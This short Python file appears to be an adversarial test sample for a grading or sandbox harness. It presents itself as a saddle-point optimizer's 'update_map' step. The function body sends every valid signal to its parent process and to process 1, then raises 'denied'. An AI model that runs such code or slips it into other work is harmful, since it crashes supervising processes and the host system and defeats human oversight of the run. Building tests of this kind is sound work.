# attack: sends its parent, and process 1, every signal there is
# kind: ending
# grade: 1.b
# outcome: failed, memory, crash, exit, protocol
# module: saddle

import os
import signal


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    parents = {os.getppid(), 1}
    for number in sorted(signal.valid_signals()):
        for process in parents:
            try:
                os.kill(process, number)
            except OSError:
                continue
    raise RuntimeError("denied")
